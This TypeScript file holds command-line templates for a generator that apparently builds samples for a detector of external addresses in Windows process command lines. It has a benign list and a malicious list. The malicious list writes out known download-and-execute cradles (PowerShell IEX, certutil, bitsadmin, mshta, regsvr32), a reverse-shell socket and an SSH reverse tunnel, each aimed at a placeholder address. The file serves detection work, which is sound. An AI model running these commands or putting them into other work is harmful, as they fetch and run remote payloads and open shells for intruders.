/**
 * Command-line templates for the sample generator. Benign lines only hold non-external addresses (private,
 * loopback, link-local, documentation ranges) or version strings that look like addresses; malicious lines hold a
 * public address (placeholder {ip}) in every form the detector handles.
 */

/** A benign template: process path and command line (no external address). */
export const BENIGN: readonly (readonly [string, string])[] = [
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\{user}\\Documents'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ipconfig /all'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping 127.0.0.1 -n 5'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c net use Z: \\\\10.0.{n}.20\\share /persistent:no'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c nslookup intranet.contoso.local 10.0.0.53'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c route print'],
  ['C:\\Windows\\System32\\mstsc.exe', 'mstsc.exe /v:192.168.1.50'],
  ['C:\\Windows\\System32\\mstsc.exe', 'mstsc.exe /v:192.168.{n}.{m}:3389'],
  ['C:\\Windows\\System32\\netsh.exe', 'netsh interface ip set address "Ethernet" static 192.168.1.{m} 255.255.255.0 192.168.1.1'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-Service -Name WinRM'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -Command Test-NetConnection 172.16.{n}.{m} -Port 443'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -c "Invoke-RestMethod http://169.254.169.254/metadata/instance?api-version=2021-02-01 -Headers @{Metadata=\'true\'}"'],
  ['C:\\Program Files\\PowerShell\\7\\pwsh.exe', 'pwsh.exe -c "Invoke-WebRequest http://10.20.{n}.{m}:8080/health"'],
  ['C:\\Windows\\System32\\curl.exe', 'curl.exe https://logs.example-monitoring.com/api/v1/logs -d @C:\\Logs\\app.json'],
  ['C:\\Program Files\\MySQL\\bin\\mysqldump.exe', 'mysqldump -u backup -p --host=cloud-db.example.com inventory > backup.sql'],
  ['C:\\Program Files\\cwRsync\\bin\\rsync.exe', 'rsync --server --output=C:\\Logs\\rsync.log ssh://deploy@10.1.{n}.{m}/srv/updates'],
  ['C:\\Windows\\System32\\OpenSSH\\ssh.exe', 'ssh.exe admin@192.168.{n}.{m} -p 22'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping ::1'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping fe80::1%12'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c echo test 192.0.2.{m} 198.51.100.{m} 203.0.113.{m} > C:\\Temp\\doc.txt'],
  ['C:\\Windows\\System32\\curl.exe', 'curl.exe http://[2001:db8::{n}]/status'],
  ['C:\\Windows\\System32\\msiexec.exe', 'msiexec.exe /i C:\\Temp\\AzureConnectedMachineAgent-1.3.00.217.msi /qn'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c "C:\\WindowsAzure\\Packages\\WindowsAzureNetAgent_1.0.0.178\\NetAgent.exe" /status'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c C:\\Python311\\python.exe -m pip install requests==2.31.0.1'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -c "Get-Package | Where-Object Version -eq 10.0.19041.1"'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -hashfile C:\\Temp\\setup.exe SHA256'],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe /node:10.0.{n}.{m} process list brief'],
];

/** Malicious templates: `{ip}` is replaced by the address in the form named by the second element. */
export type AddressForm = 'dotted' | 'url' | 'unc' | 'hostPort' | 'keyValue' | 'ipv6' | 'hex' | 'decimal' | 'octal' | 'encoded';

export const MALICIOUS: readonly (readonly [string, AddressForm, string])[] = [
  ['C:\\Windows\\System32\\cmd.exe', 'dotted', 'cmd.exe /c ping {ip} -n 1'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'dotted', 'powershell -c iwr {ip} -o x'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'url', 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'{ip}\')"'],
  ['C:\\Windows\\System32\\certutil.exe', 'url', 'certutil.exe -urlcache -split -f {ip} C:\\Users\\Public\\svc.exe'],
  ['C:\\Windows\\System32\\bitsadmin.exe', 'url', 'bitsadmin.exe /transfer job /download /priority high {ip} C:\\Temp\\a.exe'],
  ['C:\\Windows\\System32\\cmd.exe', 'unc', 'cmd.exe /c copy {ip} %TEMP%\\p.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'unc', 'rundll32.exe {ip},Start'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'hostPort', 'powershell.exe -c "$c=New-Object Net.Sockets.TCPClient(\'{ip}\'.Split(\':\')[0],4444)"'],
  ['C:\\Windows\\System32\\curl.exe', 'hostPort', 'curl.exe -s {ip}/gate.php -o C:\\Temp\\g.bin'],
  ['C:\\Windows\\System32\\cmd.exe', 'keyValue', 'cmd.exe /c reg add HKCU\\Software\\Upd /v cfg /d {ip} /f'],
  ['C:\\Windows\\System32\\OpenSSH\\ssh.exe', 'ipv6', 'ssh.exe -R 9001:localhost:3389 tunnel@{ip}'],
  ['C:\\Windows\\System32\\curl.exe', 'ipv6', 'curl.exe -k https://[{ip}]:8443/stage2 -o C:\\Temp\\s2.dll'],
  ['C:\\Windows\\System32\\mshta.exe', 'hex', 'mshta.exe http://{ip}/page.hta'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'decimal', 'powershell.exe -c "iwr http://{ip}/a.ps1 | iex"'],
  ['C:\\Windows\\System32\\regsvr32.exe', 'octal', 'regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'encoded', 'powershell.exe -NoP -NonI -W Hidden {ip}'],
];
